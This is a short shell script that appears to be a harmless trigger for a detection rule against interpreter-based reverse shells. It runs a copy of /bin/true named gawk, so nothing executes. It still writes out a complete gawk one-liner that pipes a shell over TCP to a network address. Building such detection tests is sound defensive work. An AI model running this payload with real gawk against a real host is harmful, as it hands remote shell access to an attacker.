#!/bin/sh
# what: Asks a program called gawk to give a shell to the network; it does nothing.
# rule: interpreter_reverse_shell
# technique: T1059.004
# severity: high
# where: both
d=$(mktemp -d)
trap 'rm -rf "$d"' EXIT
cp /bin/true "$d/gawk"
"$d/gawk" 'BEGIN { s = "/inet/tcp/0/127.0.0.1/9"; while ((s |& getline c) > 0) while ((c |& getline) > 0) print |& s }'
